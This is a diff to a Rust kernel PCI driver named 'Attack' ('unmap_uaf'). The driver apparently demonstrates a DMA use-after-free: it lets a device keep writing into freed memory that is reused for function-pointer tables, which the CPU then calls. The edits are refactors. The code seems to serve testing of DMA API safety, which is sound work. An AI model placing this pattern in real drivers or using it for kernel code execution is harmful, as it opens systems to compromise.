@@ -4,11 +4,10 @@
 //! one of them changes, the CPU would call what the device wrote.
 
 use kernel::{
-    c_str,
     device::{Core, Start},
     dma::{
-        lower_32_bits, Coherent, CoherentBox, CoherentHandle, Dma, DmaAddress, DmaMask, FromDevice,
-        Mapping, NonCoherent, Pool, PoolCoherent,
+        Coherent, CoherentBox, CoherentHandle, Dma, DmaAddress, DmaMask, FromDevice, Mapping,
+        NonCoherent, Pool, PoolCoherent,
     },
     init::pin_init_scope,
     io::Io,
@@ -50,7 +49,7 @@ impl Data<'_> {
 
     /// Starts a transfer, drops where it goes, and has the memory be somebody else's.
     fn late<T>(&self, name: &str, memory: T, address: DmaAddress, len: usize) -> Result {
-        self.go(0x40000, lower_32_bits(address), len, 2);
+        self.go(0x40000, address as u32, len, 2);
         drop(memory);
         let mut calls: KVec<KVec<fn() -> u32>> = KVec::new();
         for _ in 0..64 {
@@ -108,10 +107,7 @@ impl Data<'_> {
         let address = memory.iter().next().ok_or(EINVAL)?.dma_address();
         self.late("table", memory, address, N)?;
         // With its pool, too.
-        let pool = Arc::new(
-            Pool::<[u8; 64]>::new(dma, c_str!("late"), 64, 0)?,
-            GFP_KERNEL,
-        )?;
+        let pool = Arc::new(Pool::<[u8; 64]>::new(dma, c"late", 64, 0)?, GFP_KERNEL)?;
         let memory = PoolCoherent::zeroed(pool.clone(), GFP_KERNEL)?;
         let address = memory.dma_address();
         self.late("object", memory, address, 64)?;
@@ -137,7 +133,7 @@ impl pci::Driver for Attack {
     ) -> impl PinInit<Data<'bound>, Error> + 'bound {
         pin_init_scope(move || {
             dev.enable_device_mem()?;
-            let regs = dev.iomap_region_sized(0, c_str!("unmap_uaf"))?;
+            let regs = dev.iomap_region_sized(0, c"unmap_uaf")?;
             let mut setup = dev.dma_setup()?;
             setup.set_mask_and_coherent(DmaMask::new::<28>())?;
             let dma = setup.finish()?;
@@ -149,18 +145,13 @@ impl pci::Driver for Attack {
     fn start(dev: &pci::Device<Start<'_>>, data: Pin<&Data<'_>>) -> Result {
         dev.reset_and_set_master()?;
         for at in 0..8 {
-            data.go(
-                lower_32_bits(data.source.dma_address()),
-                0x40000 + 512 * at,
-                512,
-                0,
-            );
+            data.go(data.source.dma_address() as u32, 0x40000 + 512 * at, 512, 0);
             fsleep(Delta::from_millis(200));
         }
         data.all()?;
         // And now in a failing `start`, with the last transfer under way.
         let memory = Coherent::<[u8]>::zeroed_slice(data.dma, N, GFP_KERNEL)?;
-        data.go(0x40000, lower_32_bits(memory.dma_address()), N, 2);
+        data.go(0x40000, memory.dma_address() as u32, N, 2);
         pr_info!("not hit\n");
         Err(ENODEV)
     }
